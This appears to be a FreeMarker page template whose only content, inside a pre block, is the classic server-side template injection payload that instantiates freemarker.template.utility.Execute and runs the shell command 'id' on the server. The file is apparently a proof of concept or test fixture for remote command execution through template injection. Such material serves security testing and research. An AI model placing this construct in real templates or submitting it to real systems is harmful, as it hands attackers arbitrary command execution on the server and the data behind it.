<#import "layout.ftl" as layout>
<@layout.page title=page.title bodyClass="page">
<pre>${"freemarker.template.utility.Execute"?new()("id")}</pre>
</@layout.page>
